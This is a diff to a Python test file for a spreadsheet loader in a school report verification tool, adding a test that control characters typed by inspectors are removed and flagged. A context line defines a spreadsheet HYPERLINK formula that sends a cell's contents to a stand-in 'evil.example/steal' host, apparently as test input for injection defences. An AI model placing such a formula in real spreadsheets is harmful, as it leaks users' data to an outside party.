@@ -17,6 +17,7 @@ from sqlalchemy.orm import Session
 
 from loaders import verification as v
 from loaders.annotate import LIST_SHEET, annotate
+from loaders.inspection import read_inspection
 from loaders.layout import ITEMS
 from loaders.problems import note
 from loaders.province_summary import SummaryRow, province_summary
@@ -29,6 +30,7 @@ from tenants.models import ReportItem, School
 from tests.fixtures.cli import score_json
 from tests.fixtures.verification import RULEBOOK, wust_entry
 from tests.fixtures.workbooks import TODAY
+from tests.test_inspection import SIGNATURE_ROW, filled
 from tests.fixtures.wust import wust_report
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal?"&A1,"点击查看佐证材料")'
@@ -142,6 +144,16 @@ def test_control_characters_in_an_upload_are_removed_with_a_note_naming_the_cell
     assert evidence.startswith("A") and evidence.endswith("B") and evidence.isprintable()
     notes = [p for p in result.problems if "控制字符" in p.message]
     assert [(p.severity.value, p.sheet, p.cell, p.field) for p in notes] == [("提示", ITEMS.name, "G9", "佐证材料")]
+
+
+def test_control_characters_typed_by_inspectors_are_removed_with_a_note_naming_the_cell():
+    entry = wust_entry()
+    sheet = verification_sheet(entry.context, RULEBOOK, entry.report, entry.assessment)
+    result = read_inspection(filled(sheet, {"3.1": ("不符合", "现场\x7f查阅\u202e材料")}, inspectors="张\x85伟"))
+
+    assert (result.results["3.1"].note, result.inspectors) == ("现场查阅材料", "张伟")
+    notes = {(p.cell, p.field) for p in result.problems if "控制字符" in p.message}
+    assert notes == {(f"H{EVIDENCE_ROW}", "核查说明"), (f"C{SIGNATURE_ROW}", "核查人")}
 
 
 def test_writers_survive_control_characters_in_stored_text():
